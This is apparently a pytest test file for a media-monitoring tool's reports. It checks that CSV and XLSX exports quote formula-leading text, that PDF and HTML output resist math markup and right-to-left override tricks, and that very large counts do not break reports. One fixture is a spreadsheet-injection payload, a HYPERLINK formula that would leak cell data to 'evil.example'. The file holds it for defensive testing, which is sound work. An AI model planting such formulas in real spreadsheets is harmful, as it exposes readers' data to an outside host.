"""Hostile text and huge counts in every output, checked on the files themselves.

Formulas stay text in the CSV bytes and the XLSX's XML; ``$...$`` in names is not math in
the weekly PDF; a right-to-left override in a channel title cannot reverse the figures
beside it in headless Chromium or in the PDF; a view count of 2^63-1 breaks no report.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
from pandas.testing import assert_frame_equal
from typer.testing import CliRunner

from narrmon.cli import app
from narrmon.config import Config
from narrmon.pipeline import report
from narrmon.records import Account, MetricSnapshot, Post
from narrmon.safe_text import (
    balance_bidi,
    from_spreadsheet_cell,
    spreadsheet_cell,
    strip_bidi,
)
from narrmon.store import Store
from narrmon.store.schema import BIGINT_MAX
from reports.pull import XLSX_CELL_CHARS, read_pull, write_pull
from tests.report_store import DAY, build, headless_chromium, need_tool, t

pytestmark = pytest.mark.clock  # date-sensitive: CI runs it again with the clock moved ahead

NOW = datetime(2026, 11, 25, 12, 0, tzinfo=UTC)
RLO = "\u202e"
RLO_TITLE = f"{RLO}Kanal obrnut"  # the override is never closed
MATH_TITLE = r"$\\frac{1}{0}$ $x^2$"  # not valid mathtext: parsing it raises
MATH_SOURCE = r"$\sqrt{-1}$ izvor"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Texts of the X account below, one per dangerous first character, and two that are not.
HOSTILE_TEXTS = {
    "h1": "+381 64 123 456 zovite",
    "h2": "-1+1 Kosovo",
    "h3": "@SUM(A1:A9) rusija",
    "h4": "\tTab na početku",
    "h5": "\rCR na početku",
    "h6": "'=već navodnik",
    "h7": "red jedan\rred dva (lone CR)",
}
VIEWS = 987_654


def hostile(store: Store) -> Store:
    """The report data set plus accounts and posts made to break outputs."""
    build(store)
    accounts = [
        Account("telegram", "900", None, RLO_TITLE, 5000, "channel", t(20, 0)),
        Account("telegram", "901", None, MATH_TITLE, 40, "channel", t(20, 0)),
        Account("x", "=1+2", "=evil", "@Zli naslov", 10, "x_user", t(20, 0)),
    ]
    posts = [
        Post("telegram", "900/1", "900", t(20, 14), text=FORMULA, source="test"),
        Post(
            "telegram",
            "901/1",
            "901",
            t(20, 15),
            text="Kosovo $x^2$ presedan",
            forwarded_from_name=MATH_SOURCE,
            source="test",
        ),
        *(
            Post("x", pid, "=1+2", t(20, 16, i), text=text, source="test")
            for i, (pid, text) in enumerate(HOSTILE_TEXTS.items())
        ),
    ]
    snapshots = [
        MetricSnapshot("telegram", "900/1", t(21, 10), views=VIEWS, forwards=1, reactions=2),
        MetricSnapshot("telegram", "901/1", t(21, 10), views=5),
    ]
    store.write_batch(accounts=accounts, posts=posts, snapshots=snapshots, source="test")
    return store


# -- the helpers ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+381", "'+381"),
        ("-x", "'-x"),
        ("@a", "'@a"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),  # already quoted: one more, so reading back is exact
        ("'x", "'x"),
        ("Kosovo = Krim", "Kosovo = Krim"),
        ("", ""),
    ],
)
def test_spreadsheet_cells_are_quoted_and_read_back_exactly(text: str, cell: str) -> None:
    assert spreadsheet_cell(text) == cell
    assert from_spreadsheet_cell(cell) == text
    assert spreadsheet_cell(-5) == -5 and spreadsheet_cell(2.5) == 2.5  # numbers stay numbers


def test_bidi_controls_are_closed_or_removed() -> None:
    assert balance_bidi(f"{RLO}abc") == f"{RLO}abc\u202c"
    assert balance_bidi("a\u2067b\u202ec") == "a\u2067b\u202ec\u202c\u2069"
    assert balance_bidi("a\u202cb\u2069c") == "abc"  # closers that close nothing go
    assert balance_bidi("\u2067a\u202eb\u2069c") == "\u2067a\u202eb\u2069c"  # PDI ends both
    assert strip_bidi(f"\u200f{RLO}Kanal\u2066 x\u2069") == "Kanal x"


# -- spreadsheet cells ---------------------------------------------------------------------


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_pull_quotes_formula_cells_and_reads_them_back(
    sqlite_store: Store, tmp_path: Path
) -> None:
    df = report.pull(None, hostile(sqlite_store), DAY, DAY)
    data = write_pull(df, tmp_path / "p.csv", "csv").read_bytes()
    rows = _cells(data)
    header, body = rows[0], rows[1:]
    assert len(body) == len(df)  # a lone CR inside a text did not split a row
    by_id = {row[header.index("post_id")]: dict(zip(header, row, strict=True)) for row in body}
    assert by_id["900/1"]["text"] == "'" + FORMULA
    assert by_id["900/1"]["views"] == str(VIEWS)  # numbers stay numbers
    assert by_id["h1"]["account_id"] == "'=1+2" and by_id["h1"]["account_handle"] == "'=evil"
    assert by_id["h1"]["account_title"] == "'@Zli naslov"
    for pid, text in HOSTILE_TEXTS.items():
        expected = "'" + text if text.lstrip("'").startswith(FORMULA_STARTS) else text
        assert by_id[pid]["text"] == expected, pid
    unsafe = [c for row in body for c in row if c.startswith(FORMULA_STARTS) and not _is_number(c)]
    assert unsafe == []
    assert b'"red jedan\rred dva (lone CR)"' in data
    back = read_pull(tmp_path / "p.csv")
    assert_frame_equal(back, df)
    assert back.set_index("post_id").loc["h7", "text"] == HOSTILE_TEXTS["h7"]


def test_xlsx_pull_writes_texts_as_strings_never_formulas(
    sqlite_store: Store, tmp_path: Path
) -> None:
    df = report.pull(None, hostile(sqlite_store), DAY, DAY)
    path = write_pull(df, tmp_path / "p.xlsx", "xlsx")
    sheet_xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    assert "&apos;=HYPERLINK(" in sheet_xml or "'=HYPERLINK(" in sheet_xml
    sheet = openpyxl.load_workbook(path)["posts"]
    header = [c.value for c in sheet[1]]
    cells = {row[header.index("post_id")].value: row for row in sheet.iter_rows(min_row=2)}
    text, views = header.index("text"), header.index("views")
    assert (cells["900/1"][text].data_type, cells["900/1"][text].value) == ("s", "'" + FORMULA)
    assert (cells["900/1"][views].data_type, cells["900/1"][views].value) == ("n", VIEWS)
    for name, value in (("account_id", "'=1+2"), ("account_handle", "'=evil")):
        cell = cells["h1"][header.index(name)]
        assert (cell.data_type, cell.value) == ("s", value)
    strings = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in strings)
    assert [c.value for c in strings if c.value.startswith(FORMULA_STARTS)] == []
    back = read_pull(path).set_index("post_id")
    assert back.loc["900/1", "text"] == FORMULA and back.loc["h6", "text"] == "'=već navodnik"


def test_daily_report_csvs_quote_formula_cells(sqlite_store: Store, tmp_path: Path) -> None:
    paths = report.daily_report(Config(), hostile(sqlite_store), DAY, tmp_path, now=NOW)
    tables = {p.name.split(f"{DAY}-")[1]: _cells(p.read_bytes()) for p in paths[2:]}
    top = tables["top_posts.csv"]
    rows = [dict(zip(top[0], row, strict=True)) for row in top[1:]]
    first = rows[0]
    assert (first["post_id"], first["views"], first["excerpt"]) == (
        "900/1",
        "987654",
        "'" + FORMULA,
    )
    accounts = tables["top_accounts.csv"]
    assert ["'=1+2", "'@=evil"] in [row[1:3] for row in accounts[1:]]
    for name, rows_ in tables.items():
        body = [c for row in rows_[1:] for c in row]
        assert [c for c in body if c.startswith(FORMULA_STARTS) and not _is_number(c)] == [], name
    labels = tables["labels.csv"]
    views = {row[0]: row[labels[0].index("views")] for row in labels[1:]}
    assert views["kosovo_precedent"] == "530"  # numbers stay numbers


def test_cli_says_how_many_xlsx_texts_were_cut(sqlite_store: Store, tmp_path: Path) -> None:
    hostile(sqlite_store)
    long_text = "=" + "Kosovo je presedan. " * 2500  # 50,001 characters, starts a formula
    post = Post("telegram", "900/2", "900", t(20, 18), text=long_text, source="test")
    sqlite_store.write_batch(posts=[post], source="test")
    out = tmp_path / "cut.xlsx"
    args = ["pull", "--since", DAY, "--until", DAY, "--format", "xlsx", "--out", str(out)]
    result = CliRunner().invoke(app, [*args, "--db", sqlite_store.url])
    assert result.exit_code == 0, result.output
    said = " ".join(result.output.split())
    assert "16 posts written to" in said
    assert "warning: 1 text(s) longer than Excel's 32,767-character cell limit were cut" in said
    sheet = openpyxl.load_workbook(out)["posts"]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == "900/2")
    cell = row[header.index("text")]
    assert cell.data_type == "s" and len(cell.value) == XLSX_CELL_CHARS
    assert cell.value.startswith("'=Kosovo je presedan.")
    assert cell.value.endswith(" […cut: the full text has 50,001 characters]")


# -- the weekly PDF ------------------------------------------------------------------------


def _pdf_text(pdf: Path) -> str:
    out = subprocess.run(
        [need_tool("pdftotext"), "-layout", str(pdf), "-"], capture_output=True, check=True
    )
    return out.stdout.decode("utf-8")


def test_weekly_pdf_shows_math_markup_and_bidi_names_as_written(
    sqlite_store: Store, tmp_path: Path
) -> None:
    pdf = report.weekly_report(
        Config(), hostile(sqlite_store), "2026-W47", tmp_path / "w.pdf", now=NOW
    )
    text = _pdf_text(pdf)
    assert MATH_TITLE in text  # in the top posts, as written
    assert "Kosovo $x^2$ presedan" in text
    assert RLO not in text
    line = next(x for x in text.splitlines() if "Kanal obrnut" in x)
    assert "987,654" in line  # beside the RLO title, in order
    assert "456,789" not in text


# -- the daily HTML in Chromium ------------------------------------------------------------

# Reads, for each figure in bold in an overall top post's head line, its characters in the order
# Chromium lays them out left to right, into the body's data-views attribute.
VISUAL_ORDER = """<script>
const seen = [];
for (const b of document.querySelectorAll(".post .head:has(.overall) b")) {  // overall list
  const node = b.firstChild, xs = [];
  for (let i = 0; i < node.length; i++) {
    const r = document.createRange(); r.setStart(node, i); r.setEnd(node, i + 1);
    xs.push([r.getBoundingClientRect().left, node.data[i]]);
  }
  seen.push(xs.sort((a, b) => a[0] - b[0]).map(x => x[1]).join(""));
}
document.body.setAttribute("data-views", seen.join("|"));
</script></body>"""


def test_rlo_channel_title_cannot_reverse_the_views_in_chromium(
    sqlite_store: Store, tmp_path: Path
) -> None:
    html = report.daily_report(Config(), hostile(sqlite_store), DAY, tmp_path / "d", now=NOW)[0]
    page = html.read_text(encoding="utf-8")
    assert f"<bdi>{RLO}Kanal obrnut\u202c</bdi> (telegram)" in page
    probe = tmp_path / "probe.html"
    # the page's CSP lets only its own script run: the probe goes in a copy without it
    page = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page)
    probe.write_text(page.replace("</body>", VISUAL_ORDER), encoding="utf-8")
    dom = headless_chromium(tmp_path / "profile", "--dump-dom", probe.as_uri())
    seen = dom.split('data-views="', 1)[1].split('"', 1)[0].split("|")
    assert seen[0] == "987,654"  # the RLO channel's post, first by views
    assert seen[1:4] == ["1,000", "450", "200"]


# -- counts at the bigint maximum ----------------------------------------------------------


def test_counts_at_the_bigint_maximum_break_no_report(store: Store, tmp_path: Path) -> None:
    build(store)
    # Two posts of @kanal_a (650 views on DAY already) at the most a BIGINT holds: the
    # account-day's rollup stops at BIGINT_MAX; totals over accounts are exact Python ints.
    huge = [Post("telegram", f"100/{i}", "100", t(20, 20, i), text="x") for i in (30, 31)]
    snaps = [
        MetricSnapshot("telegram", p.post_id, t(21, 10), views=BIGINT_MAX, forwards=BIGINT_MAX)
        for p in huge
    ]
    store.write_batch(posts=huge, snapshots=snaps, source="test")
    paths = report.daily_report(Config(), store, DAY, tmp_path / "d", now=NOW)
    figures = json.loads(paths[1].read_text(encoding="utf-8"))
    everything = next(r for r in figures["labels"] if r["label"] == "_all")
    assert everything["views"] == BIGINT_MAX + 80 + 1000  # @kanal_b and @srb_x beside it
    assert figures["top_posts"][0]["views"] == BIGINT_MAX
    assert "9,223,372,036,854,775,807" in paths[0].read_text(encoding="utf-8")
    pdf = report.weekly_report(Config(), store, "2026-W47", tmp_path / "w.pdf", now=NOW)
    assert "9,223,372,036,854,775,807" in _pdf_text(pdf)
    assert report.alerts(Config(), store, "2026-11-21").spikes == []  # DAY is in its history
    df = report.pull(None, store, DAY, DAY).set_index("post_id")
    assert df.loc["100/30", "views"] == BIGINT_MAX
    assert df.loc["100/30", "engagement"] == BIGINT_MAX  # forwards + ... capped, not wrapped
    for fmt in ("csv", "xlsx", "parquet", "jsonl"):
        back = read_pull(write_pull(df.reset_index(), tmp_path / f"p.{fmt}", fmt))
        assert back.set_index("post_id").loc["100/31", "views"] == BIGINT_MAX, fmt
